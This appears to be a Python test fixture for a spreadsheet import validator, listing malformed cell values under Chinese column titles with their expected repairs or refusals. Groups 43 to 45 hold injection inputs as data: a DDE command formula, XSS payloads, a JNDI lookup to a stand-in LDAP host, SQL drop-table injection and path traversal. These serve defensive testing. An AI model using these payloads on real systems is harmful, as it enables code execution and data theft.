"""Groups 30 to 45 in the cells of a workbook: each value under its title, with its answer."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, time
from typing import Any

from tests.bad_input.answers import Answer, Neutral, Refused, Repaired

AS_TEXT = "请把这一列设成文本格式，从原始资料重新填写"


@dataclass(frozen=True)
class BadCell:
    """A cell of group ``group`` in the column ``title``."""

    group: int
    title: str
    cell: Any
    answer: Answer

    def __str__(self) -> str:
        return f"{self.title} {str(self.cell)[:40]!r}"


STATED = {
    "电话": "Phones become one form",
    "户号": "full-width signs become half-width",
    "生日": "ISO, `2026/3/5 9:05`",
    "迁入时间": "`24:00` is the next day",
    "养宠物": "是 对 √ Y 1 TRUE",
    "物业费": "15 digits",
    "满意度": "by its title or its key",
    "面积": "15 digits",
    "姓名": "invisible signs",
    "备注": "line ends become LF",
}
"""What docs/import.md says of the repair, by the column."""


def column(group: int, title: str, *pairs: tuple[Any, Answer]) -> list[BadCell]:
    return [BadCell(group, title, cell, answer) for cell, answer in pairs]


def became(title: str, into: Any, *cells: Any) -> list[tuple[Any, Answer]]:
    return [(cell, Repaired(into, STATED[title])) for cell in cells]


def refused(title: str, remedy: str, *cells: Any) -> list[tuple[Any, Answer]]:
    return [(cell, Refused(title, remedy)) for cell in cells]


def as_it_is(*cells: Any) -> list[tuple[Any, Answer]]:
    return [(cell, Neutral(cell)) for cell in cells]


def canonical(cell: Any, *numbers: str) -> tuple[Any, Answer]:
    return cell, Repaired(list(numbers), STATED["电话"])


def undated(*cells: Any) -> list[tuple[Any, Answer]]:
    stated = "the row is taken without the date; it is **in doubt**"
    return [(cell, Repaired(None, stated)) for cell in cells]


def in_doubt(cell: Any, *kept: str) -> tuple[Any, Answer]:
    return cell, Repaired(list(kept), "is taken without asking; it is **in doubt**")


MOMENT = datetime(2026, 3, 1, 23, 59, 59)  # noqa: DTZ001 (a cell has no zone)
PHONES = column(
    30, "电话",
    *(canonical(cell, "13812345678") for cell in (
        13812345678.0, "1.3812345678E10", "13812345678.0", "138-1234-5678", "+86 138 1234 5678",
        "１３８１２３４５６７８", "'13812345678", "138 1234 5678", "(138)12345678", "008613812345678")),
    canonical("（010）6789 1234转8", "010-67891234转8"),
    canonical("13812345678/13912345678", "13812345678", "13912345678"),
    canonical("13812345678、13812345678", "13812345678"),
    canonical("400-800-1234", "4008001234"),
    *(in_doubt(cell, cell) for cell in (
        "138123456789", "1381234567", "1.38E+10", "12345", "13812345678 张三", "0", "13812345678转8")),
    in_doubt(1.38e9, "1380000000"), in_doubt(110101199001011200.0, "110101199001011200"),
    in_doubt("13812345678/1391234", "13812345678", "1391234"),
    *(in_doubt(cell) for cell in ("无", "二三三", "1" * 60)), in_doubt("13812345678/无", "13812345678"),
    *refused("电话", "控制字符", "1381234\x1b5678"),
)  # fmt: skip
NUMBERS = [
    *column(31, "身份证号", *refused("身份证号", AS_TEXT, 110101199001011200.0, "1.10101E+17"),
            *as_it_is("110101199001011234", "11010119900101123x", "110101199001011235")),
    *column(32, "户号", *as_it_is("0012", "1E5", "2-3", "B-01/2"),
            (12.0, Repaired("12", STATED["户号"])), ("１２－３", Repaired("12-3", STATED["户号"])),
            *refused("户号", AS_TEXT, "1E+05", date(2026, 2, 3), "2月3日", 123456789012345680.0)),
]  # fmt: skip
DAYS = [
    *column(33, "生日", *undated("2026/2/30", "2026-13-01", "0000-00-00", "2026年2月29日"),
            *undated("26/11/23", "11/12/2026", "二〇二六年十一月二十三日", "农历三月初三",
                     "10000-01-01", "昨天", "2026-02"),
            *((cell, Repaired("2026-11-23", STATED["生日"])) for cell in
              ("20261123", 20261123.0, "2026.11.23", "2026/11/23", "2026年11月23日", "２０２６－１１－２３",
               date(2026, 11, 23), "2026-11-23 00:00:00")),
            ("2024年2月29日", Repaired("2024-02-29", STATED["生日"])),
            *undated("1899-12-31", "2201-01-01", "2999-01-01"), *became("生日", "1900-01-01", "1900-01-01"),
            *refused("生日", "控制字符", "2026-1\x1b1-23")),
    *column(34, "生日", *undated(46349.0, 46349.9999884, 60.0, -1.0, 1e300, time(3, 4),
                     date(1900, 2, 28))),
    *column(35, "迁入时间",
            ("2026-03-01T08:00:00+08:00", Repaired("2026-03-01T00:00:00+00:00", STATED["迁入时间"])),
            ("2026-03-01T08:00:00Z", Repaired("2026-03-01T08:00:00+00:00", STATED["迁入时间"])),
            ("2026-03-01 24:00", Repaired("2026-03-01T16:00:00+00:00", STATED["迁入时间"])),
            (MOMENT, Repaired("2026-03-01T15:59:59+00:00", STATED["迁入时间"])),
            *undated("2026-03-01 23:59:60", "2026-03-01 25:00", "0001-01-01", "1900-01-01", "2999-01-01",
                     "1986-05-04 02:30", "10000-01-01 00:00", "2026-03-01 8", "1e9")),
    *column(48, "登记时间", *undated("2026-03-02 09:11", "2199-12-31", "2999-01-01", "1900-01-01", "昨天")),
]  # fmt: skip
AMOUNTS = [
    *column(36, "养宠物", *((cell, Repaired(True, STATED["养宠物"])) for cell in ("是", "√", "Y", "1", "TRUE", "对", "Ｙ", 1.0, True)),
            *((cell, Repaired(False, STATED["养宠物"])) for cell in ("否", "×", "N", "0", "false", 0.0, False)),
            *refused("养宠物", "请写“是”或“否”", "也许", "2", "是的吧", 2.0)),
    *column(37, "物业费", ("1,234.50", Repaired("1234.50", STATED["物业费"])), ("１，２３４", Repaired("1234.00", STATED["物业费"])),
            ("1.2万", Repaired("12000.00", STATED["物业费"])), (-0.0, Repaired("0.00", STATED["物业费"])),
            ("-0", Repaired("0.00", STATED["物业费"])),
            (0.1 + 0.2, Repaired("0.30", STATED["物业费"])), ("0.3", Repaired("0.30", STATED["物业费"])),
            *refused("物业费", "请只写数字", "(500)", "NaN", "Infinity", "1e400", "￥100", "100元", "1,23", "一百",
                     "1.2.3", "--5", "1万2"),
            *refused("物业费", "按括号里的说明", "12.345", 1e300)),
    *column(38, "满意度", ("非常满意", Repaired("5", STATED["满意度"])), (5.0, Repaired("5", STATED["满意度"])),
            *refused("满意度", "请改成可选的值", "6", 6.0, "4.5", "4分", "满意", "-1")),
    *column(39, "面积", ("35.2", Repaired(35.2, STATED["面积"])),
            *refused("面积", "请只写数字", "30MPa", "C30P6", "35.2*", "35.1/35.2/35.3", "35.2 36.1")),
]  # fmt: skip
NAMES = [
    *column(40, "姓名", *((cell, Repaired("张三", STATED["姓名"])) for cell in
                       ("张三\u00a0", "\u3000张三", "张\u200b三", "\ufeff张三", "张三\u3164", "张三\u00ad")),
            ("e\u0301", Repaired("é", STATED["姓名"])), *as_it_is("張三", "〇五", "○五", "O'Brien", "аdmin@firm.example")),
    *column(41, "姓名", *refused("姓名", "请删去看不见的控制字符", "张\u202e三", "a\u2066b", "\x1b[31m红", "\x07响"),
            *as_it_is("Z" + "\u0335" * 20, "🇨🇳旗", "\ue000某"),
            ("👨\u200d👩\u200d👧", Repaired("👨👩👧", STATED["姓名"])),
            *refused("姓名", "请缩短", "长" * 300, "e" + "\u0335" * 30_000)),
    *column(42, "备注", *as_it_is("@张三 " * 400 + "。", "字" * 2_000),
            *refused("备注", "按括号里的说明", "字" * 2_001, "甲" + "\n" * 20_000 + "乙")),
]  # fmt: skip
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2*3",
    "@SUM(A1)",
    "＝HYPERLINK(1)",
    "=1+1;=2",
    '=IMPORTXML("x")',
)
MARKUP = (
    "<script>alert(1)</script>", "<svg onload=alert(1)>", "{{7*7}}", "${jndi:ldap://x/a}", "%s%n%x",
    "{0.__class__}", "[x](javascript:alert(1))", "'; drop table customers; --", "$.a[?(@.b)]", "%_%",
    "(a+)+$", "a & !b | (c", "\\", "''", "../../etc/passwd",
)  # fmt: skip
HARMLESS = [
    *column(43, "备注", *as_it_is(*FORMULAS), ("\t=1+1", Repaired("=1+1", STATED["备注"])), ("\r=1+1", Repaired("=1+1", STATED["备注"]))),
    *column(43, "姓名", *as_it_is(*FORMULAS)),
    *column(43, "户号", *refused("户号", AS_TEXT, "1E+09"), *as_it_is("=1+1", "@2")),
    *column(44, "姓名", *as_it_is(*MARKUP[:7]), ("a\r\nBcc: x@y.example", Repaired("a Bcc: x@y.example", STATED["姓名"]))),
    *column(44, "备注", *as_it_is(*MARKUP[:7]), ("a\r\nBcc: x", Repaired("a\nBcc: x", STATED["备注"]))),
    *column(45, "姓名", *as_it_is(*MARKUP[7:])),
    *column(45, "户号", *as_it_is(*MARKUP[7:])),
]  # fmt: skip
CELLS = [*PHONES, *NUMBERS, *DAYS, *AMOUNTS, *NAMES, *HARMLESS]
GROUPS = sorted({cell.group for cell in CELLS})
